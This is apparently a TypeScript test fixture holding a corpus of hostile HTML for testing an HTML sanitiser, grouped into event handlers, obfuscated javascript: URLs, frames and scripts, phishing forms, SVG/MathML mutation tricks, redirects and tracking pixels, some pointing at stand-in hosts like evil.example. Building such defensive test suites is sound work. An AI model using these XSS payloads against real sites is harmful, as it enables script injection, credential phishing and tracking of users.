/**
 * Hostile HTML for the sanitiser's tests, written down by us in the manner of DOMPurify's
 * test fixtures and the public XSS cheat sheets: each case is one known trick. `keeps`, when
 * given, is text that must survive (the sanitiser cleans, it does not just empty the input).
 * Used by tests only; every payload writes to `window.pwned` if it ever runs.
 */
export interface XssCase {
  name: string;
  html: string;
  keeps?: string;
}

const run = 'window.pwned=1';

const handlers: XssCase[] = [
  { name: 'img onerror', html: `<img src=x onerror="${run}">` },
  { name: 'img onerror, upper case', html: `<IMG SRC=x ONERROR="${run}">` },
  { name: 'handler after a slash', html: `<img/src=x/onerror=${run}>` },
  { name: 'handler after a new line', html: `<img src=x\nonerror\n=\n"${run}">` },
  { name: 'body onload', html: `<body onload="${run}"><p>corpo</p></body>`, keeps: 'corpo' },
  { name: 'svg onload', html: `<svg onload="${run}"></svg>` },
  { name: 'details ontoggle', html: `<details open ontoggle="${run}">detalhe</details>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${run}">` },
  { name: 'marquee onstart', html: `<marquee onstart="${run}">letreiro</marquee>` },
  { name: 'div onmouseover', html: `<div onmouseover="${run}">passe</div>`, keeps: 'passe' },
  { name: 'a onclick', html: `<a href="https://exemplo.com.br" onclick="${run}">link</a>` },
  { name: 'video source onerror', html: `<video><source onerror="${run}"></video>` },
  { name: 'audio src onerror', html: `<audio src=x onerror="${run}"></audio>` },
  { name: 'select autofocus onfocus', html: `<select autofocus onfocus="${run}"></select>` },
  { name: 'pointer event', html: `<p onpointerenter="${run}">toque</p>`, keeps: 'toque' },
  { name: 'animation event', html: `<p style="animation:x 1s" onanimationstart="${run}">a</p>` },
  { name: 'handler with entities', html: `<img src=x onerror="&#119;indow.pwned=1">` },
];

const javascriptUrls: XssCase[] = [
  { name: 'javascript: href', html: `<a href="javascript:${run}">a</a>`, keeps: 'a' },
  { name: 'JAVASCRIPT: upper case', html: `<a href="JAVASCRIPT:${run}">a</a>` },
  { name: 'decimal entities', html: `<a href="&#106;&#97;vascript:${run}">a</a>` },
  { name: 'hex entities', html: `<a href="&#x6A;avascript&#x3A;${run}">a</a>` },
  { name: 'entities without semicolons', html: `<a href="&#106&#97vascript:${run}">a</a>` },
  { name: 'tab inside the scheme', html: `<a href="java&#x09;script:${run}">a</a>` },
  { name: 'new line inside the scheme', html: `<a href="jav&#x0A;ascript:${run}">a</a>` },
  { name: 'named tab entity', html: `<a href="java&Tab;script:${run}">a</a>` },
  { name: 'colon entity', html: `<a href="javascript&colon;${run}">a</a>` },
  { name: 'leading spaces', html: `<a href="   javascript:${run}">a</a>` },
  { name: 'leading control character', html: `<a href="&#x01;javascript:${run}">a</a>` },
  { name: 'leading form feed', html: `<a href="&#14;  javascript:${run}">a</a>` },
  { name: 'vbscript:', html: `<a href="vbscript:msgbox(1)">a</a>` },
  { name: 'VbScRiPt: mixed case', html: `<a href="VbScRiPt:msgbox(1)">a</a>` },
  { name: 'data:text/html link', html: `<a href="data:text/html,<script>${run}</script>">a</a>` },
  {
    name: 'data:text/html base64 link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">a</a>',
  },
  { name: 'data:text/html image', html: '<img src="data:text/html,<script>x</script>">' },
  { name: 'data:image/svg+xml link', html: '<a href="data:image/svg+xml,<svg onload=x>">a</a>' },
  { name: 'javascript: in area', html: `<map><area href="javascript:${run}"></map>` },
  { name: 'javascript: in img src', html: `<img src="javascript:${run}">` },
  { name: 'javascript: in srcset', html: `<img srcset="javascript:${run} 1x">` },
  { name: 'javascript: in poster', html: `<video poster="javascript:${run}"></video>` },
  { name: 'javascript: in cite', html: `<blockquote cite="javascript:${run}">c</blockquote>` },
  { name: 'vbscript: in q cite', html: '<q cite="vbscript:msgbox(1)">c</q>' },
  { name: 'javascript: in del cite', html: `<del cite="  javascript:${run}">d</del>` },
  { name: 'javascript: in ins cite', html: `<ins cite="javascript:${run}">i</ins>` },
  { name: 'javascript: in table background', html: `<table background="javascript:${run}">` },
  { name: 'href on a div', html: `<div href="javascript:${run}" src="javascript:1">d</div>` },
  { name: 'unquoted with a trailing tag', html: `<a href=javascript:${run}//>a</a>` },
];

const frames: XssCase[] = [
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>${run}</script>"></iframe>` },
  { name: 'srcdoc on an allowed tag', html: `<div srcdoc="<script>${run}</script>">d</div>` },
  { name: 'iframe javascript:', html: `<iframe src="javascript:${run}"></iframe>` },
  { name: 'iframe data:', html: `<iframe src="data:text/html,<script>${run}</script>">` },
  { name: 'frameset', html: `<frameset><frame src="javascript:${run}"></frameset>` },
  { name: 'object data', html: `<object data="javascript:${run}"></object>` },
  { name: 'embed src', html: `<embed src="data:text/html,<script>${run}</script>">` },
  { name: 'applet', html: `<applet code="X" codebase="https://evil.example/"></applet>` },
  { name: 'script', html: `<script>${run}</script><p>fica</p>`, keeps: 'fica' },
  { name: 'script src', html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'script split by a script', html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'script with a data: src', html: `<script/src="data:,${run}"></script>` },
  { name: 'link import', html: '<link rel="import" href="https://evil.example/x.html">' },
  { name: 'stylesheet link', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
];

const forms: XssCase[] = [
  { name: 'button formaction', html: `<button formaction="javascript:${run}">enviar</button>` },
  {
    name: 'input formaction and formtarget',
    html: '<input type="submit" formaction="https://evil.example/" formtarget="_top">',
  },
  {
    name: 'form action phishing',
    html: '<form action="https://evil.example/collect"><input name="senha" type="password"></form>',
  },
  { name: 'form javascript: action', html: `<form action="javascript:${run}"><button>x</button>` },
  {
    name: 'button joining a form elsewhere',
    html: '<button form="login" formaction="https://evil.example/">Entrar</button>',
  },
  { name: 'isindex', html: `<isindex type=image src=1 onerror="${run}" action="javascript:1">` },
  { name: 'textarea autofocus', html: `<textarea autofocus onfocus="${run}"></textarea>` },
];

const namespaces: XssCase[] = [
  { name: 'svg script', html: `<svg><script>${run}</script></svg>` },
  { name: 'svg a xlink:href', html: `<svg><a xlink:href="javascript:${run}"><text>x</text></a>` },
  { name: 'svg use xlink:href', html: '<svg><use xlink:href="https://evil.example/s.svg#x"/>' },
  { name: 'svg use href', html: '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>' },
  { name: 'svg image href', html: '<svg><image href="https://pixel.example.test/i.gif"/></svg>' },
  {
    name: 'svg animate to javascript:',
    html: `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a>`,
  },
  { name: 'svg set a handler', html: `<svg><set attributeName="onmouseover" to="${run}"/></svg>` },
  {
    name: 'svg foreignObject img',
    html: `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  },
  {
    name: 'svg style closing paragraph',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  },
  { name: 'svg CDATA', html: `<svg><![CDATA[><img src=x onerror=${run}//]]></svg>` },
  { name: 'math href', html: `<math href="javascript:${run}"><mi>x</mi></math>` },
  {
    name: 'math mi xlink:href',
    html: `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  },
  {
    name: 'math mglyph style',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  },
  {
    name: 'math textarea id',
    html: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  },
  {
    name: 'form inside math',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  {
    name: 'math annotation-xml html',
    html: `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}">`,
  },
];

const mutations: XssCase[] = [
  {
    name: 'noscript title',
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  },
  { name: 'template content', html: `<template><img src=x onerror="${run}"></template>` },
  { name: 'style body', html: `<style><img src=x onerror="${run}"></style>` },
  {
    name: 'style with url()',
    html: '<style>p{background:url(https://pixel.example.test/s)}</style>',
  },
  {
    name: 'title attribute closing a title',
    html: `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  },
  { name: 'textarea body', html: `<textarea><img title="</textarea><img src=x onerror=${run}>">` },
  { name: 'xmp', html: `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>` },
  { name: 'noembed', html: `<noembed><img title="</noembed><img src=x onerror=${run}>">` },
  { name: 'noframes', html: `<noframes><img title="</noframes><img src=x onerror=${run}>">` },
  { name: 'iframe body', html: `<iframe><img title="</iframe><img src=x onerror=${run}>">` },
  { name: 'comment', html: `<!--<img src="--><img src=x onerror=${run}//">` },
  { name: 'processing instruction', html: `<?xml ><img src=x onerror="${run}">?>` },
  { name: 'style attribute url()', html: '<p style="background:url(javascript:alert(1))">p</p>' },
  { name: 'style attribute expression', html: '<p style="width:expression(alert(1))">p</p>' },
  { name: 'style attribute behavior', html: '<p style="behavior:url(x.htc)">p</p>' },
];

const targets: XssCase[] = [
  { name: 'a target _top', html: '<a href="https://evil.example" target="_top">a</a>' },
  {
    name: 'area target _blank without rel',
    html: '<map name="m"><area href="https://evil.example" target="_blank" coords="0,0,9,9"></map>',
  },
  { name: 'a rel opener', html: '<a href="https://evil.example" target="_blank" rel="opener">' },
  { name: 'a TARGET upper case', html: '<a href="https://evil.example" TARGET="_parent">a</a>' },
  { name: 'target on a div', html: '<div target="_blank">d</div>' },
  { name: 'target on a link without href', html: '<a target="_blank" name="x">a</a>' },
  { name: 'form target', html: '<form action="https://evil.example" target="_blank"></form>' },
  { name: 'button formtarget', html: '<button formtarget="_top">b</button>' },
  { name: 'a ping', html: '<a href="https://exemplo.com.br" ping="https://evil.example/p">a</a>' },
];

const documentLevel: XssCase[] = [
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/x">a</a>' },
  { name: 'base javascript:', html: `<base href="javascript:${run}//">` },
  { name: 'base target', html: '<base target="_blank">' },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    name: 'meta refresh javascript:',
    html: `<meta http-equiv="refresh" content="0;javascript:${run}">`,
  },
  { name: 'meta csp', html: `<meta http-equiv="Content-Security-Policy" content="script-src *">` },
];

const privacy: XssCase[] = [
  { name: 'tracking pixel', html: '<img src="https://pixel.example.test/open.gif" width=1>' },
  { name: 'protocol-relative pixel', html: '<img src="//pixel.example.test/open.gif">' },
  { name: 'pixel in srcset', html: '<img srcset="https://pixel.example.test/a.gif 2x">' },
  {
    name: 'picture source',
    html: '<picture><source srcset="https://pixel.example.test/s.gif"><img alt="foto"></picture>',
  },
  { name: 'video poster', html: '<video poster="https://pixel.example.test/p.gif"></video>' },
  { name: 'table background', html: '<table background="https://pixel.example.test/b.gif">' },
  { name: 'our own marker', html: '<img data-blocked-src="javascript:alert(1)">' },
];

export const xssCorpus: XssCase[] = [
  ...handlers,
  ...javascriptUrls,
  ...frames,
  ...forms,
  ...namespaces,
  ...mutations,
  ...targets,
  ...documentLevel,
  ...privacy,
];
